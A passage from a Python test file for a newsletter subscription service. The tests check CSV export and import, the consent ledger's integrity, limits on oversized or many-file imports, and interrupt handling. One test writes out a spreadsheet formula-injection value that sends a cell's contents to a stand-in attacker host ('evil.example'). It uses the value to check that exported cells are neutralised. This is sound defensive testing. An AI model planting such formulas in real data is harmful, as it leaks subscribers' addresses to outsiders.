        assert db.session.scalar(select(func.count()).select_from(Suppression)) == 0


def test_the_export_runs_no_formula_in_a_spreadsheet_and_still_reads_back_exactly(
        app, runner, client, newsletter, mailbox, tmp_path, monkeypatch):
    """A visitor's user agent (or name) like ``=HYPERLINK("https://…?"&A2;"…")`` was written
    as it came: opened in a spreadsheet it is a formula, here one that sends the address in
    the row's first cell away. Every cell that starts like a formula gets a ``'`` (text to a
    spreadsheet), which the import takes off again."""
    monkeypatch.chdir(tmp_path)
    hostile = '=HYPERLINK("https://evil.example/?"&A2,"open")'
    response = client.post("/v1/subscriptions", headers={"User-Agent": hostile}, json={
        "email": "+tag@example.org", "list": "newsletter", "consent_text_version": 1,
        "first_name": "=1+1", "last_name": "'-x"})
    assert response.status_code == 202
    deliver(app)
    confirm = links(mailbox.to("+tag@example.org")[-1])["confirm"]
    assert client.post(confirm, headers={"User-Agent": "@SUM(1)"}).status_code == 303
    out = tmp_path / "export.csv"
    assert invoke(runner, "export", "--list", "newsletter", "--output", str(out)).exit_code == 0
    (row,) = csv.DictReader(out.open(encoding="utf-8"))
    cells = [v for v in row.values() if v]
    assert not [c for c in cells if c[0] in "=+-@\t\r"], cells
    assert row["optin_signup_user_agent"] == "'" + hostile and row["email"] == "'+tag@example.org"
    assert row["last_name"] == "''-x"
    assert invoke(runner, "lists", "create", "other", "--name", "Other").exit_code == 0
    assert invoke(runner, "consent-texts", "add", "other", "--locale", "de",
                  "--text", "Ja, bitte.").exit_code == 0
    again = invoke(runner, "import", "csv", str(out), "--list", "other")
    assert "imported (consent with its evidence, marked as imported): 1" in again.output
    with app.app_context():
        back = db.session.scalar(select(Subscription).where(
            Subscription.mailing_list.has(slug="other")))
        assert (back.email, back.first_name, back.last_name) == ("+tag@example.org", "=1+1", "'-x")


def test_an_imported_consents_address_swapped_in_its_row_is_caught(app, runner, newsletter,
                                                                  tmp_path, monkeypatch):
    """The imported consent's ledger named no address, so another address and its keyed
    hash written into the row verified as intact: the import records the address as a
    signup does, and verify holds the row to it."""
    monkeypatch.chdir(tmp_path)
    path = mc_zip(tmp_path / "e.zip", [mc_member("ada@example.org")])
    assert invoke(runner, "import", "mailchimp", str(path), "--list", "newsletter").exit_code == 0
    with app.app_context():
        digest = address_hash("mallory@example.org", current_settings().hash_key)
        db.session.execute(Subscription.__table__.update().values(email="mallory@example.org",
                                                                  email_hash=digest))
        db.session.commit()
    result = runner.invoke(args=["ledger", "verify"])
    assert result.exit_code == 1 and "its address is not the one its event #1" in result.output


def test_an_overlong_value_rejects_its_row_instead_of_going_into_the_ledger(
        app, runner, newsletter, tmp_path, monkeypatch):
    """The CSV reader takes fields up to 1 MB, and every evidence column was kept as
    given: a 280 KB zip of 150 rows with a 900,000-character "IP" put 270 MB into the
    ledger (for good), and a batch of 5,000 such rows would be gigabytes in memory."""
    monkeypatch.chdir(tmp_path)
    path = tmp_path / "members_export.zip"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("subscribed_members_export.csv", mc_csv([
            mc_member("huge@example.org", OPTIN_IP="1" * 900_000),
            mc_member("name@example.org", **{"First Name": "A" * 3_000}),
            mc_member("fine@example.org", LEID="9" * 2_000)]))
    report = tmp_path / "rejected.csv"
    result = invoke(runner, "import", "mailchimp", str(path), "--list", "newsletter",
                    "--report", str(report))
    assert "imported (consent with its evidence, marked as imported): 1" in result.output
    assert "rejected (see the report file): 2" in result.output
    reasons = [r["reason"] for r in csv.DictReader(report.open(encoding="utf-8"))]
    assert reasons == ["OPTIN_IP holds 900000 characters, more than 2000: not imported",
                       "first_name holds 3000 characters, more than 2000: not imported"]
    assert list(subs(app)) == ["fine@example.org"]
    with app.app_context():
        longest = max(len(json.dumps(e.details)) for e in db.session.scalars(select(ConsentEvent)))
    assert longest < 10_000


def test_a_zip_of_thousands_of_members_is_refused_at_once(app, runner, newsletter, tmp_path,
                                                          monkeypatch):
    """Each member was opened through a fresh read of the zip's directory, several times: a
    430 KB zip of 3,000 one-row CSVs took 27 s of CPU to check its headers and as long again
    to count, quadratic in the members. An export holds a few CSVs; more than 100 files is
    refused before any is read."""
    monkeypatch.chdir(tmp_path)
    path = tmp_path / "members_export.zip"
    with zipfile.ZipFile(path, "w") as archive:
        for i in range(101):
            archive.writestr(f"subscribed_{i}.csv", f"Email Address\nm{i}@example.org\n")
    result = runner.invoke(args=["import", "mailchimp", str(path), "--list", "newsletter"])
    assert result.exit_code == 1 and isinstance(result.exception, SystemExit), result.exception
    assert "holds 101 files, more than 100" in result.output
    assert counts(app) == (0, 0, 0)


def test_a_bounce_that_withdrew_nothing_does_not_make_a_later_unsubscribe_cleaned(
        ac_newsletter, ac_app, runner, client, confirmed, tmp_path, monkeypatch):
    """ActiveCampaign's bounce is recorded without withdrawing; the export then called the
    subscriber's own later unsubscribe "cleaned", and the import made it a bounce."""
    monkeypatch.chdir(tmp_path)
    unsubscribe = confirmed("bounce@example.org")
    assert client.post("/webhooks/activecampaign?secret=webhook-secret-0123456789", data={
        "type": "bounce", "list": "1", "contact[email]": "bounce@example.org",
        "bounce[type]": "soft"}).status_code == 200
    assert client.post(unsubscribe, data={"List-Unsubscribe": "One-Click"}).status_code == 200
    out = tmp_path / "export.csv"
    assert invoke(runner, "export", "--list", "newsletter", "--output", str(out)).exit_code == 0
    (row,) = csv.DictReader(out.open(encoding="utf-8"))
    assert (row["status"], row["optin_withdrawal_channel"]) == ("unsubscribed", "one_click")


def test_ctrl_c_inside_a_statement_still_says_where_to_resume(app, runner, newsletter, tmp_path,
                                                             monkeypatch):
    """Ctrl-C that lands while PostgreSQL is mid-statement leaves a connection that cannot
    roll back: the rollback's OperationalError replaced the KeyboardInterrupt, and the
    command ended in a traceback (seen once in the real-process test under load)."""
    monkeypatch.chdir(tmp_path)
    path = tmp_path / "subscribed_members_export.csv"
    path.write_text(mc_csv([mc_member(f"int{i}@example.org") for i in range(30)]))
    write, rollback, calls = imports._Writer._write, db.session.rollback, []

    def interrupted(self, pending, summary):
        calls.append(1)
        if len(calls) == 2:
            raise KeyboardInterrupt
        return write(self, pending, summary)

    def broken_rollback():
        if len(calls) == 2 and not getattr(broken_rollback, "done", False):
            broken_rollback.done = True
            raise sqlalchemy.exc.OperationalError("ROLLBACK", None, Exception("in progress"))
        return rollback()

    monkeypatch.setattr(imports._Writer, "_write", interrupted)
    monkeypatch.setattr(db.session, "rollback", broken_rollback)
    result = runner.invoke(args=["import", "mailchimp", str(path), "--list", "newsletter",
                                 "--batch", "10"])
    assert result.exit_code == 130, result.exception
    assert "interrupted: 10 rows committed" in result.output
